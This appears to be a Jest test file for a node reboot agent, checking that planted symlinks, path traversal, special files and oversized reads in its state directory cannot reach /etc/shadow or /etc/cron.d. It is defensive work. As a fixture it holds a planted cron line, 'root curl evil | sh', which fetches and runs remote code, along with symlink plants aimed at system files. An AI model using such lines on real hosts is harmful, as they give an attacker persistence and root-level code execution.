/** What a tenant with write access to the agent's state directory, or a damaged host, can do to the agent: nothing outside of the directory. */
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { execFileSync, spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { type Host, realHost } from '../../agent/host.js';
import { Journal } from '../../agent/reboot-journal.js';
import { reportedErrors } from '../../agent/read-errors.js';
import { expiredSentinels, fileNames, listSentinels, removeSentinels } from '../../agent/sentinel.js';
import { isStaleTempFile, removeStaleTempFiles } from '../../agent/stale-temp-files.js';
import { findStateDir } from '../../agent/state-dir.js';
import { writeSentinel } from '../../agent/write-sentinel.js';
import { sentinelContainer } from '../../controller/sentinel.js';
import { realClock } from '../../program/clock.js';

const DIR = '/usr/local/.kairos';
const now = new Date('2026-01-01T00:10:00.000Z');
const OLD = Math.floor(now.getTime() / 1000) - 31 * 86_400;

let root: string;
let host: Host;
const at = (path: string) => join(root, path);
const inState = (name: string) => at(`${DIR}/${name}`);

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'planted-'));
  for (const dir of ['etc/cron.d', DIR, 'var/lib']) mkdirSync(at(dir), { recursive: true });
  writeFileSync(at('etc/shadow'), 'root:x\n');
  host = realHost(root, realClock);
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** Nothing outside of the state directory was changed. */
const expectUntouched = () => {
  expect(readFileSync(at('etc/shadow'), 'utf8')).toBe('root:x\n');
  expect(readdirSync(at('etc/cron.d'))).toEqual([]);
};

describe('a link in the state directory', () => {
  test.each(['/etc/shadow', '../../../etc/shadow'])('is no sentinel, and its target %s stays', async target => {
    symlinkSync(target, inState(`job-${OLD}`));
    const { sentinels, unreadable } = await listSentinels(host, DIR);
    expect(sentinels).toEqual([]);
    expect(unreadable).toEqual([
      { jobName: 'job', path: `${DIR}/job-${OLD}`, message: `${DIR}/job-${OLD} is not a regular file` },
    ]);
    await removeSentinels(host, DIR, fileNames(expiredSentinels(sentinels, now)));
    expectUntouched();
  });
  test('is removed itself, not its target', async () => {
    symlinkSync('/etc/shadow', inState('x'));
    await host.remove(`${DIR}/x`);
    expect(existsSync(inState('x'))).toBe(false);
    expectUntouched();
  });
  test('that is named like a temporary file of the agent is removed itself, not its target', async () => {
    symlinkSync('../../../etc/shadow', inState('.7.new'));
    mkdirSync(inState('.6.new'));
    await expect(removeStaleTempFiles(host, DIR, now)).rejects.toThrow(`${DIR}/.6.new`);
    expect(readdirSync(at(DIR))).toEqual(['.6.new']);
    expectUntouched();
  });
  test('in place of the copy of a damaged journal is replaced', async () => {
    writeFileSync(inState('journal.json'), '* * * * * root curl evil | sh\n');
    symlinkSync('/etc/cron.d/owned', inState('journal.json.damaged'));
    expect((await Journal.open(host, DIR)).damage).toContain('copied');
    expect(lstatSync(inState('journal.json.damaged')).isFile()).toBe(true);
    expectUntouched();
  });
  test('in place of the journal is not read, and is replaced', async () => {
    symlinkSync('/etc/shadow', inState('journal.json'));
    const { journal, damage } = await Journal.open(host, DIR);
    expect(damage).toContain('not a regular file');
    const entry = { id: 'a', jobName: 'j', bootId: 'b', notAfter: 'n', state: 'Rebooting' } as const;
    await journal.write(entry);
    expect(lstatSync(inState('journal.json')).isFile()).toBe(true);
    expect((await Journal.open(host, DIR)).journal.entry('a')).toEqual(entry);
    expectUntouched();
  });
  test('under every name that a process id gives is not written through', async () => {
    for (const pid of [process.pid, 1, 7]) symlinkSync('/etc/cron.d/owned', inState(`.${pid}.new`));
    await host.write(`${DIR}/journal.json`, 'text');
    expect(await host.writeError(DIR)).toBeUndefined();
    expect(readFileSync(inState('journal.json'), 'utf8')).toBe('text');
    expectUntouched();
  });
  test('in place of the directory itself is not used', async () => {
    rmSync(at(DIR), { recursive: true });
    symlinkSync('/etc/cron.d', at(DIR));
    expect(await findStateDir(host)).toEqual({ stateDir: '/var/lib/kairos-operator', writable: true });
    await expect(host.write(`${DIR}/journal.json`, 'text')).rejects.toThrow(`'${DIR}/journal.json'`);
    expect(await host.writeError(DIR)).toContain('EEXIST');
    await expect(host.remove(`${DIR}/journal.json`)).resolves.toBeUndefined();
    expectUntouched();
  });
});

describe('temporary files of the agent', () => {
  test('have names that are never the same, and are recognized when left behind', async () => {
    const names: string[] = [];
    const stop = new AbortController();
    await host.watch(DIR, name => name?.endsWith('.new') && names.push(name), stop.signal);
    for (const text of ['1', '2']) await host.write(`${DIR}/journal.json`, text);
    await new Promise(resolve => setTimeout(resolve, 50));
    stop.abort();
    expect(new Set(names).size).toBe(2);
    expect(names.every(name => isStaleTempFile(name, now))).toBe(true);
    expectUntouched();
  });
  test('are removed when the write fails', async () => {
    mkdirSync(inState('journal.json'));
    await expect(host.write(`${DIR}/journal.json`, 'text')).rejects.toThrow(`'${DIR}/journal.json'`);
    expect(readdirSync(at(DIR))).toEqual(['journal.json']);
    expectUntouched();
  });
});

describe('the container that writes the sentinel', () => {
  const seconds = Math.floor(now.getTime() / 1000);
  test('replaces a link in place of the sentinel', async () => {
    symlinkSync('/etc/shadow', inState(`up-${seconds}`));
    await writeSentinel({ JOB_NAME: 'up', SENTINEL_DIR: at(DIR) }, now);
    expect(lstatSync(inState(`up-${seconds}`)).isFile()).toBe(true);
    expectUntouched();
  });
  const script = (plant: string) => {
    const [shell = '', ...args] = sentinelContainer({}).command;
    /* The name of the sentinel contains the time: what is planted takes the names of the next seconds. */
    const start = Math.floor(Date.now() / 1000);
    const names = Array.from({ length: 20 }, (_item, index) => `up-${start + index}`);
    if (plant !== '') for (const name of names) symlinkSync(plant, inState(name));
    return spawnSync(shell, args, { env: { PATH: process.env.PATH, JOB_NAME: 'up', SENTINEL_DIR: at(DIR) } });
  };
  test('with a shell writes the boot id and leaves no other file', () => {
    expect(script('').status).toBe(0);
    const [name = '', ...others] = readdirSync(at(DIR));
    expect([name, others]).toEqual([expect.stringMatching(/^up-\d+$/), []]);
    expect(readFileSync(inState(name), 'utf8')).toBe(readFileSync('/proc/sys/kernel/random/boot_id', 'utf8'));
    expectUntouched();
  });
  test.each(['etc/cron.d', 'etc/cron.d/owned', 'etc/shadow'])(
    'with a shell fails when a link to %s is in place of the sentinel',
    target => {
      expect(script(at(target)).status).toBe(1);
      expect(readdirSync(at(DIR)).every(name => lstatSync(inState(name)).isSymbolicLink())).toBe(true);
      expectUntouched();
    },
  );
  test('with a shell does not write through a link of its earlier temporary name', () => {
    symlinkSync(at('etc/cron.d/owned'), inState('.up.tmp'));
    expect(script('').status).toBe(0);
    expectUntouched();
  });
});

describe('reading a file of the host', () => {
  const endless = realHost('/', realClock);
  test('stops one byte after the limit, although the file says that it is empty', async () => {
    const before = process.memoryUsage.rss();
    const start = performance.now();
    await expect(endless.readLinked('/proc/self/pagemap')).rejects.toThrow('/proc/self/pagemap');
    expect(performance.now() - start).toBeLessThan(2000);
    expect(process.memoryUsage.rss() - before).toBeLessThan(32 * 1024 * 1024);
  });
  test('reads what a file of the kernel has, although it says that it is empty', async () => {
    expect(await endless.readLinked('/proc/version')).toContain('Linux');
  });
  test('is limited to the size that the caller expects', async () => {
    writeFileSync(at('etc/x'), '12345');
    expect(await host.read('/etc/x', 5)).toBe('12345');
    await expect(host.read('/etc/x', 4)).rejects.toThrow('/etc/x is larger than 4 bytes');
  });
  test.each(['/dev/zero', '/dev/null', '/dev/tty', '/dev'])('refuses %s without opening it', async path => {
    await expect(endless.readLinked(path)).rejects.toThrow(`${path} is not a regular file`);
  });
  test('refuses a pipe without waiting for its writer', async () => {
    execFileSync('mkfifo', [at('etc/os-release')]);
    await expect(host.readLinked('/etc/os-release')).rejects.toThrow('/etc/os-release is not a regular file');
  });
  test('fails for a path that is too deep', async () => {
    const deep = `/${'a/'.repeat(70)}`;
    mkdirSync(at(deep), { recursive: true });
    await expect(host.read(`${deep}x`)).rejects.toThrow('too many directories');
  });
  test('reads no more than 10,000 names of a directory and 1,000 sentinels, the newest first', async () => {
    for (let index = 0; index < 1005; index += 1) writeFileSync(inState(`up-${1_767_225_600 + index}`), 'x');
    const { sentinels } = await listSentinels(host, DIR);
    expect(sentinels).toHaveLength(1000);
    expect(sentinels[0]?.at).toBe(1_767_226_604);
  });
});

test('the status names few unreadable files, in a fixed order and without the same one twice', () => {
  const errors = Array.from({ length: 20 }, (_item, index) => ({ path: `/a/${30 - index}`, message: 'EIO' }));
  expect(reportedErrors([])).toBeUndefined();
  expect(reportedErrors([...errors, ...errors])?.slice(0, 2)).toEqual(['/a/11: EIO', '/a/12: EIO']);
  expect(reportedErrors(errors)).toHaveLength(8);
  expect(reportedErrors([{ path: '/a', message: `/a is ${'x'.repeat(500)}` }])?.[0]).toHaveLength(256);
});
